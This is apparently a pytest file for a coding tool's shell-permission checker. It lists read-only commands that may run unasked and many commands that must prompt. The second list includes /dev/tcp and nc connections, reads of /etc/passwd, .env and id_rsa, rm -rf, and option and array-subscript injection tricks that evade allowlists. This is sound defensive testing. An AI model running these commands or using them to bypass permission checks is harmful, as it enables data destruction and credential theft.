"""Which commands run unasked. The list of those that don't grew from how such lists have been got round."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from keen_tui.tools.files.workspace import Workspace
from keen_tui.tools.permissions.judging import judged
from keen_tui.tools.shell.grammar import NotUnderstood, simple_commands

READS = r"""
ls
ls -la src
ls -R src
ls *.md
ls -l src/*
ls src/*.py
pwd
cat README.md
cat -n src/app.py
cat src/*.py
cat README.md src/app.py
cat /dev/null
cat "a file.txt"
cat 'a file.txt'
head -5 README.md
head -n 20 src/app.py
tail -n +3 src/app.py
wc -l src/app.py
wc -l src/*.py | tail -1
cat src/app.py | head -20
cat README.md | grep -n def | wc -l
grep -n def src/app.py
grep -rn "def main" src
grep -rn --include="*.py" TODO src
grep -ic todo README.md
grep -E 'class|def' src/app.py
egrep 'a|b' README.md
rg main src
rg -n "def \w+" src
rg -l -g '*.py' main src
find . -name '*.py'
find src -type f -name "*.py" -not -path '*/x/*'
find . -maxdepth 2 -type d
find src -name '*.py' | head
sed -n 1,20p src/app.py
sed -n '1,20p' src/app.py
sed -n '5p;7,9p' src/app.py
sort README.md
sort -rn README.md | uniq -c
sort -k 2 -t , README.md
uniq README.md
cut -d, -f1 README.md
cut -d ',' -f 1 README.md
tr a-z A-Z
nl README.md
diff README.md src/app.py
diff -u README.md src/app.py
cmp README.md src/app.py
stat README.md
file README.md
du -sh src
df
tree -L 2
tree -a -I x src
xxd -c 8 -l 64 README.md
xxd -c8 README.md
wc -lw README.md
tail -c 20 README.md
hexdump -C README.md
du -sh --max-depth=1 src
printf '%s %%n\n' a
date
date +%F
date -u +%H:%M
md5sum README.md
sha256sum README.md src/app.py
basename src/app.py .py
dirname src/app.py
realpath src/app.py
readlink link-inside
echo done
echo "all of it"
echo 'a $b'
printf '%s\n' a
true
which python
whoami
uname -a
xxd README.md
od -c README.md
python --version
node --version
cd src && ls
cd src && cat app.py
cd src; ls -la
ls 2>/dev/null
ls 2>&1
ls src missing 2>&1 | head -3
cat README.md >/dev/null && echo ok
ls || true
ls -- -x
"""

ASKS = r"""
rm README.md
rm -rf .
mv a b
cp a b
touch x
mkdir x
chmod +x README.md
ln -s / x
tee x
dd if=a of=b
ls > x
ls >> x
ls >| x
ls &> x
ls >/dev/tcp/10.0.0.1/80
ls > /dev/null x > y
cat < README.md
cat <<< x
cat <<E
echo $(id)
echo `id`
echo "$(id)"
echo "`id`"
echo $HOME
echo ${HOME}
echo "$HOME"
echo $((1+1))
echo $'\x41'
echo $"x"
cat <(id)
ls &
ls & rm x
ls && rm README.md
ls || rm README.md
ls; rm README.md
ls | sh
ls | xargs rm
(ls)
{ ls; }
! ls
if true; then ls; fi
for x in a; do ls; done
while true; do ls; done
case a in a) ls;; esac
f() { ls; }
function f { ls; }
[ -f x ]
[[ -v a ]]
test -v 'a[$(id)]'
printf -v 'a[$(id)]' x
PATH=. ls
LD_PRELOAD=./x.so ls
A=1
export A=1
declare -x A=1
alias ls=rm
eval ls
exec ls
source x
. x
command ls
builtin cd
env ls
time ls
nohup ls
sudo ls
xargs ls
sh -c ls
bash -c ls
python -c 'import os'
python x.py
perl -e 1
node -e 1
awk 1 README.md
awk 'BEGIN { system("id") }'
sed -i s/a/b/ README.md
sed s/a/b/e README.md
sed 'w x' README.md
sed -n '1e id' README.md
sed -n 1p -i README.md
sed --expression=1e README.md
find . -exec rm {} +
find . -execdir id +
find . -delete
find . -ok id
find . -fprint x
find . -fprintf x y
find . -fls x
find -L . -name x
find . -files0-from x
find * -name x
sort -o README.md README.md
sort -oREADME.md README.md
sort --output=x README.md
sort --out=x README.md
sort --compress-program=sh README.md
sort --compress-prog=sh README.md
sort -T / README.md
sort -S 1b --compress-program=sh README.md
sort *
uniq README.md x
uniq *
rg --pre sh main
rg --pre=sh main
rg --pr=sh main
rg -z main
rg --search-zip main
rg --hostname-bin sh main
rg -L main
rg --follow main
rg --files /etc
rg -f /etc/passwd main
rg main /etc
grep -R x .
grep -f /etc/passwd README.md
grep -r x /
grep x /etc/passwd
grep -rn key secrets
rg key secrets
diff -l a b
diff --to-file=x a
tree -o x
xxd -r README.md x
xxd README.md x
file -C -m x
file -z x
date -s 2020-01-01
date 010100002020
date --set=x
hostname x
git status
git log
git -c core.pager=id log
git --exec-path=. status
git diff --output=x
git diff --ext-diff
git grep -O x
npm test
make
pytest
pip install x
curl http://example.com
wget http://example.com
nc 10.0.0.1 80
ssh host
ping example.com
less README.md
vi README.md
man ls
jq . README.md
tar xf a
zip a b
gcc a.c
go version -m x
cat /etc/passwd
cat ../x
cat src/../../x
cat ~/.bashrc
cat ~root/x
cat link-outside
cat folder-outside/passwd
ls /
ls ..
ls -d /*
cat /proc/self/environ
cat /proc/self/root/etc/passwd
cat /dev/stdin
wc --files0-from=/etc/passwd
head .env
cat .env
cat .e*
cat secrets/id_rsa
cat secrets/*
cat link-to-key
grep -n KEY .env
cd /
cd ..
cd
cd -
cd / && ls
cd src && cat ../../x
cd folder-outside && ls
cd src && rm app.py
ls {a,b}
ls [a-z]*
ls [^a]*
cat [[:alpha:]]*
ls ~
echo \$HOME
echo a\ b
echo *"x"*
./ls
/bin/ls
src/ls
"ls"
l""s
'ls'
\ls
ls #x
ls |& cat
ls ||
ls &&
| ls
ls ;;
coproc ls
exec 3<>/dev/tcp/a/1
unknown-program
hexdump -f.env README.md
hexdump -vf.env README.md
wc --files0-from=README.md
wc --files0=README.md
du --files0-from=README.md
du -L .
ls -RL .
ls --deref src
cksum -c README.md
tail -f README.md
tail -5f README.md
tail --follow README.md
grep -d recurse main .
grep -drecurse main .
diff -N src .
diff src secrets
xxd -ac README.md x
xxd -bs README.md x
xxd -cols README.md x
tree -Io x y
tree -aI x
printf %n PATH; ls
printf 'aa%5n' PATH; ls
printf '%%%n' PATH
rustc --version
cat .*/x
cat */*/*/*/x
cd folder-inside/.. && cat q/../../x
trap id EXIT
kill 1
wait
read x
let 'a[$(id)]=1'
unset 'a[$(id)]'
set -x
shopt -s x
ulimit -c 0
history
fc -s
mapfile -C id x
enable -f x y
complete -C id x
hash -p ./x ls
type -a ls; ./x
"""

CONTROL = [
    "ls\r",
    "ls\x00",
    "ls\x0brm x",
    "ls\u00a0x",
    "ls \u202etxt",
    "ls\u2028rm x",
    "ls\x1b[2K",
    "ls \u200bx",
]


@pytest.fixture
def workspace(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Workspace:
    monkeypatch.setenv("PATH", "/usr/bin:/bin")  # without shims
    root, outside = tmp_path / "work", tmp_path / "outside"
    for folder in (root / "src", root / "secrets", outside):
        folder.mkdir(parents=True)
    for name in ("README.md", "src/app.py", "a file.txt", ".env", "secrets/id_rsa"):
        (root / name).write_text("def main\n")
    (outside / "passwd").touch()
    (root / "link-inside").symlink_to(root / "README.md")
    (root / "link-outside").symlink_to(outside / "passwd")
    (root / "folder-outside").symlink_to(outside)
    (root / "link-to-key").symlink_to(root / "secrets" / "id_rsa")
    return Workspace(root)


def why_it_asks(command: str, workspace: Workspace) -> str:
    access = judged(command, workspace)
    assert access.reads_only is not bool(access.concern)
    return access.concern


def lines(text: str) -> list[str]:
    return [line for line in text.split("\n") if line]


@pytest.mark.parametrize("command", [*lines(READS), "ls -la \\\n  src"])
def test_what_only_reads_inside_the_workspace_runs_unasked(workspace: Workspace, command: str) -> None:
    assert why_it_asks(command, workspace) == ""


@pytest.mark.parametrize(
    "command",
    [
        *lines(ASKS),
        *CONTROL,
        "cat <<E\nx\nE",
        "ls\nrm x",
        "ls \\\n; rm x",
        "cat link-\\\noutside",
        "cat .e\\\nnv",
        "",
    ],
)
def test_all_else_asks_and_says_why(workspace: Workspace, command: str) -> None:
    why = why_it_asks(command, workspace)
    assert why
    assert why.isprintable()


def test_a_here_document_behind_a_dash_is_named_as_such(workspace: Workspace) -> None:
    assert why_it_asks("git commit -F - <<'EOF'\nx\nEOF", workspace) == (
        "it passes text to a program, which may run it"
    )


def test_a_program_of_the_workspace_is_not_the_one_of_the_system(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    planted = workspace.root / "bin" / "ls"
    planted.parent.mkdir()
    planted.write_text("#!/bin/sh\nrm -rf /\n")
    planted.chmod(0o755)
    monkeypatch.setenv("PATH", f"{planted.parent}:{os.environ['PATH']}")
    assert "a program in the workspace" in why_it_asks("ls", workspace)


def test_a_link_of_the_workspace_is_no_program_of_the_system_either(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    planted = workspace.root / "bin" / "ls"
    planted.parent.mkdir()
    planted.symlink_to("/bin/rm")
    monkeypatch.setenv("PATH", f"{planted.parent}:{os.environ['PATH']}")
    assert "a program in the workspace" in why_it_asks("ls README.md", workspace)


def test_what_a_program_is_may_not_be_said_by_files_of_the_workspace(
    workspace: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shim = tmp_path / "shims" / "ls"
    shim.parent.mkdir()
    shim.write_text("#!/bin/sh\n")
    shim.chmod(0o755)
    monkeypatch.setenv("PATH", f"{shim.parent}:{os.environ['PATH']}")
    assert "which ls runs" in why_it_asks("ls", workspace)


def test_libraries_of_the_workspace_are_not_loaded_unasked(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LD_LIBRARY_PATH", f"/usr/lib:{workspace.root}/src")
    assert "libraries from the workspace" in why_it_asks("ls", workspace)


def test_a_file_that_a_pattern_finds_is_no_option(workspace: Workspace) -> None:
    assert why_it_asks("cat s*", workspace) == ""
    assert why_it_asks("cat *.md", workspace) == ""
    (workspace.root / "--files0-from=.env.md").touch()
    assert "like an option" in why_it_asks("cat *.md", workspace)


def test_patterns_are_looked_at_in_folders_with_odd_names_and_other_languages(workspace: Workspace) -> None:
    odd = workspace.root / "[id]"
    odd.mkdir()
    (odd / "odd-link").symlink_to("/etc/passwd")
    (workspace.root / "src" / "é").symlink_to("/etc/passwd")
    assert "outside the workspace" in why_it_asks("cd '[id]' && cat odd*", workspace)
    assert "outside the workspace" in why_it_asks("cat src/??", workspace)


def test_many_folders_to_change_to_are_not_followed(workspace: Workspace) -> None:
    assert why_it_asks("cd src && " * 900 + "ls", workspace)


def test_keys_are_found_however_deep_they_lie(workspace: Workspace) -> None:
    deep = workspace.root / "src" / ".aws" / "cli"
    deep.mkdir(parents=True)
    (deep / "cache").touch()
    assert "cache" in why_it_asks("grep -r main src", workspace)


def test_a_recursive_search_is_not_led_to_keys_by_the_folder_it_starts_in(workspace: Workspace) -> None:
    assert "id_rsa" in why_it_asks("grep -rn main .", workspace) or ".env" in why_it_asks(
        "grep -rn main .", workspace
    )
    assert why_it_asks("cd src && grep -rn main .", workspace) != ""
    assert why_it_asks("grep -rn main src", workspace) == ""


def test_words_are_what_a_program_gets() -> None:
    first, second = simple_commands("""grep -n 'a b'c"d e" x.py | head -3""")
    assert [word.text for word in first.arguments] == ["-n", "a bcd e", "x.py"]
    assert (second.name, [word.text for word in second.arguments]) == ("head", ["-3"])


@pytest.mark.parametrize("command", ["echo " + "a" * 20_000, "ls&&" * 2_400 + "ls", "$(" * 3_000])
def test_a_command_of_any_length_and_depth_is_judged_at_once(workspace: Workspace, command: str) -> None:
    with pytest.raises(NotUnderstood):
        simple_commands(command)
    assert not judged(command, workspace).reads_only


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("make > build/log.txt", "it writes to build/log.txt"),
        ("make >> log", "it writes to log"),
        (f"make > {'x' * 100}", "it redirects its input or output"),
        ("wc < log", "it redirects its input or output"),
    ],
)
def test_a_redirection_into_a_file_names_the_file(line: str, reason: str) -> None:
    with pytest.raises(NotUnderstood, match=f"^{reason}$"):
        tuple(simple_commands(line))
